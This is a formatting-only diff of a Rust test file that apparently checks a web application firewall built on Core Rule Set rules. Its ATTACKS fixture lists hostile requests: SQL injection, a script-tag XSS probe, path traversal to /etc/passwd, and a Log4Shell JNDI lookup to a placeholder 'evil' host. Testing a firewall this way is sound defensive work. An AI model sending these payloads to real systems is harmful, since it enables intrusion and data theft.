@@ -51,9 +51,8 @@ fn weights(texts: &BTreeMap<String, String>) -> BTreeMap<u64, (u8, bool)> {
     for text in texts.values() {
         for rule in text.split("\nSecRule ").skip(1) {
             let after = |word: &str| rule.split_once(word).map(|(_, rest)| rest);
-            let digits = |rest: &str| -> String {
-                rest.chars().take_while(char::is_ascii_digit).collect()
-            };
+            let digits =
+                |rest: &str| -> String { rest.chars().take_while(char::is_ascii_digit).collect() };
             let id = after("\"id:").map(digits).and_then(|id| id.parse().ok());
             let level = after("paranoia-level/").map(digits);
             let level = level.and_then(|level| level.parse().ok());
@@ -166,7 +165,12 @@ const HONEST: &[(&str, &str, &str, &str, u8)] = &[
 /// What is never let through, wherever it stands.
 const ATTACKS: &[(&str, &str, &str, &str)] = &[
     ("GET", "/?id=1%27%20OR%20%271%27%3D%271", "", ""),
-    ("GET", "/?id=1%20UNION%20SELECT%20password%20FROM%20users--", "", ""),
+    (
+        "GET",
+        "/?id=1%20UNION%20SELECT%20password%20FROM%20users--",
+        "",
+        "",
+    ),
     ("GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "", ""),
     ("GET", "/?file=../../../../etc/passwd", "", ""),
     ("GET", "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D", "", ""),
@@ -209,7 +213,10 @@ fn begin<'r>(
     let length = body.len().to_string();
     let mut fields: Vec<(&[u8], &[u8])> = vec![
         (b"host", b"shop.example"),
-        (b"user-agent", b"Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0"),
+        (
+            b"user-agent",
+            b"Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0",
+        ),
         (b"accept", b"text/html,application/json;q=0.9,*/*;q=0.8"),
     ];
     if method == "POST" {
@@ -271,10 +278,19 @@ fn crs_withholds_an_answer_that_leaks() {
     };
     let rules = rules(&texts(&folder), 1);
     for (body, refused) in [
-        ("<b>Warning</b>: mysql_fetch_array() expects parameter 1 to be resource", true),
-        ("You have an error in your SQL syntax; check the manual that corresponds to your MySQL \
-          server version for the right syntax to use near ''1''' at line 1", true),
-        ("<!doctype html><title>Shop</title><p>Lamps from 20 to 40", false),
+        (
+            "<b>Warning</b>: mysql_fetch_array() expects parameter 1 to be resource",
+            true,
+        ),
+        (
+            "You have an error in your SQL syntax; check the manual that corresponds to your MySQL \
+          server version for the right syntax to use near ''1''' at line 1",
+            true,
+        ),
+        (
+            "<!doctype html><title>Shop</title><p>Lamps from 20 to 40",
+            false,
+        ),
     ] {
         let mut transaction = begin(&rules, ("GET", "/", "", ""));
         transaction.response_head(&ResponseHead {
